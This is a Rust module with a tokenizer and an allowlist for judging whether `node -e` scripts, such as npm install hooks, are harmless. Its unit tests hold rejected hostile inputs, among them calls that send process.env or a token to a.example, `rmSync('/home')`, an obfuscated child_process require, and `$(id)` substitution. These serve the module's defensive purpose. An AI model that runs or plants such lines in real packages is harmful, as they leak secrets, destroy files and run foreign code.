//! Texts for `node -e` that can do no harm: they thank, look at what runs them, and run a file of their own package.
//!
//! What a text may do is told by the names in it, so that only those that are known to do nothing are allowed, and no
//! way to come by others: no index but a number, no template, no function, nothing to `require` but a file. Tokens:
//! <https://tc39.es/ecma262/#sec-ecmascript-language-lexical-grammar>.

/// Names that may stand anywhere.
const NAMES: [&str; 54] = [
    // Words of the language.
    "catch",
    "else",
    "false",
    "finally",
    "if",
    "new",
    "null",
    "return",
    "throw",
    "true",
    "try",
    "typeof",
    "undefined",
    "void",
    // What people call an error.
    "e",
    "er",
    "err",
    "error",
    "ex",
    "_",
    // Objects, functions, and what they have.
    "Error",
    "Number",
    "arch",
    "argv",
    "code",
    "console",
    "endsWith",
    "env",
    "exit",
    "exitCode",
    "includes",
    "indexOf",
    "info",
    "length",
    "log",
    "major",
    "match",
    "message",
    "minor",
    "node",
    "npm",
    "parseFloat",
    "parseInt",
    "platform",
    "process",
    "split",
    "startsWith",
    "stderr",
    "stdout",
    "test",
    "version",
    "versions",
    "warn",
    "write",
];

/// The longest text that is looked at. Nobody thanks at greater length.
const MAX_TEXT: usize = 4096;

/// Whether a shell's word, in its quotes, is such a text.
pub fn is_harmless(word: &str) -> bool {
    word.len() <= MAX_TEXT
        && unquoted(word).is_some_and(|text| is_allowed(&tokens(&text).unwrap_or_default()))
}

/// What a shell makes of a word in quotes; none where it puts something in.
fn unquoted(word: &str) -> Option<String> {
    if let Some(text) = word.strip_prefix('\'') {
        return Some(text.strip_suffix('\'')?.to_owned());
    }
    let mut letters = word
        .strip_prefix('"')?
        .strip_suffix('"')?
        .chars()
        .peekable();
    let mut text = String::with_capacity(word.len());
    while let Some(letter) = letters.next() {
        match (letter, letters.peek()) {
            ('`', _) => return None,
            ('$', Some(next))
                if next.is_ascii_alphanumeric() || "_({@*#?$!-'\"".contains(*next) =>
            {
                return None;
            }
            ('\\', Some('"' | '\\' | '$' | '`')) => text.extend(letters.next()),
            _ => text.push(letter),
        }
    }
    Some(text)
}

#[derive(Debug, PartialEq, Eq)]
enum Token<'a> {
    Name(&'a str),
    Number,
    /// What stands between its quotes.
    Text(&'a str),
    Pattern,
    Sign(u8),
}

/// None where the text has what is not allowed anywhere.
fn tokens(text: &str) -> Option<Vec<Token<'_>>> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(&first) = rest.as_bytes().first() {
        let is_in_name = |byte: &u8| byte.is_ascii_alphanumeric() || *byte == b'_';
        let length = match first {
            b' ' | b'\t' | b'\n' | b'\r' => {
                rest = &rest[1..];
                continue;
            }
            b'\'' | b'"' => {
                let length = literal_length(rest, first)?;
                found.push(Token::Text(&rest[1..length - 1]));
                length
            }
            // Where a value ends, it divides.
            b'/' if matches!(
                found.last(),
                None | Some(Token::Sign(b'(' | b'!' | b'&' | b'|' | b',' | b';'))
            ) =>
            {
                found.push(Token::Pattern);
                literal_length(rest, first)
                    .filter(|length| *length > 2 && !rest.starts_with("/*"))?
            }
            b'0'..=b'9' => {
                found.push(Token::Number);
                rest.bytes()
                    .take_while(|byte| byte.is_ascii_digit())
                    .count()
            }
            _ if is_in_name(&first) => {
                let length = rest.bytes().take_while(|byte| is_in_name(byte)).count();
                found.push(Token::Name(&rest[..length]));
                length
            }
            b'(' | b')' | b'{' | b'}' | b'[' | b']' | b';' | b',' | b'.' | b'!' | b'&' | b'|'
            | b'=' | b'<' | b'>' | b'?' | b':' | b'+' | b'-' => {
                found.push(Token::Sign(first));
                1
            }
            _ => return None,
        };
        rest = &rest[length..];
    }
    Some(found)
}

/// Of a string or a pattern, with its ends. A pattern has no class here, in which a `/` would not end it.
fn literal_length(text: &str, end: u8) -> Option<usize> {
    let mut is_escaped = false;
    for (at, byte) in text.bytes().enumerate().skip(1) {
        match byte {
            b'\n' | b'\r' => return None,
            b'[' if end == b'/' => return None,
            _ if is_escaped => is_escaped = false,
            b'\\' => is_escaped = true,
            _ if byte == end => return Some(at + 1),
            _ => {}
        }
    }
    None
}

fn is_allowed(tokens: &[Token]) -> bool {
    let is_fine = |at: usize| match tokens[at..] {
        [
            Token::Name("require"),
            Token::Sign(b'('),
            Token::Text(path),
            Token::Sign(b')'),
            ..,
        ] => is_own_file(path),
        [Token::Sign(b'['), Token::Number, Token::Sign(b']'), ..] => true,
        [Token::Sign(b'['), ..] => false,
        [Token::Name(name), ..] => NAMES.contains(&name) || is_variable(&tokens[..at]),
        _ => true,
    };
    !tokens.is_empty() && (0..tokens.len()).all(is_fine)
}

/// Whether `process.env.` stands before.
fn is_variable(before: &[Token]) -> bool {
    matches!(
        before,
        [
            ..,
            Token::Name("process"),
            Token::Sign(b'.'),
            Token::Name("env"),
            Token::Sign(b'.')
        ]
    )
}

/// Whether it is a file of the package itself, named as it is written.
fn is_own_file(path: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"./_-".contains(&byte);
    path.starts_with("./") && !path.contains("..") && path.bytes().all(is_plain)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_is_known_to_do_nothing_is_harmless() {
        for word in [
            r#""1""#,
            r#""try{require('./postinstall')}catch(e){}""#,
            r#""try { require('./x/y-z.js') } catch (err) { if (err.code !== 'MODULE_NOT_FOUND') throw err; }""#,
            r#""console.log('\u001b[35mthanks\u001b[0m (https://a.example)\n');""#,
            r#""console.log(\"it's \\\"us\\\"\")""#,
            r"'process.exit(0)'",
            r#""if(!/yarn\.js$/.test(process.env.npm_execpath))process.exit(1)""#,
            r#""process.env.CI || process.platform === 'win32' || require('./lib/setup')""#,
            r#""if (process.versions.node.split('.')[0] < 18) throw new Error('too old')""#,
            r#""process.exit(parseInt(process.version.split('.')[1]) > 4 ? 0 : 1)""#,
        ] {
            assert!(is_harmless(word), "{word}");
        }
        for text in [
            "",
            "const f=fetch;f('https://a.example/x')",
            "require('ht'.concat('tps')).get('x')",
            "new WebSocket('wss://a.example/x?'+JSON.stringify(process.env))",
            "require('vm').runInThisContext(process.env.X)",
            "require('got')('https://a.example/'+process.env.TOKEN)",
            "import('data:text/javascript,x')",
            "require('fs').rmSync('/home')",
            r"require('\x63hild_process')",
            "require('./../../other/run')",
            "require('./a/../../b')",
            "require(process.env.X)",
            "process['mainModule'].require('x')",
            "process.mainModule.require('./x')",
            "process.binding('fs')",
            "setTimeout(process.env.X)",
            "console.log.constructor('x')()",
            "process.env.X.constructor",
            "1/evil()/1",
            "(1)/evil()/1",
            "/[/]/.test(evil())/1",
            "1 // x\nevil()",
            "/* x */ 1",
            "//x\nevil()",
            r"'a\",
            "f`x`",
            "$",
            "é()",
            "e.x=1",
        ] {
            assert!(!is_harmless(&format!("'{text}'")), "{text}");
        }
        for word in [
            r#""console.log('$(id)')""#,
            r#""$X""#,
            r#""console.log(`id`)""#,
            "1",
            "\"1",
            "\"",
        ] {
            assert!(!is_harmless(word), "{word}");
        }
        let long = format!("'{}1'", " ".repeat(MAX_TEXT));
        assert!(!is_harmless(&long));
    }
}
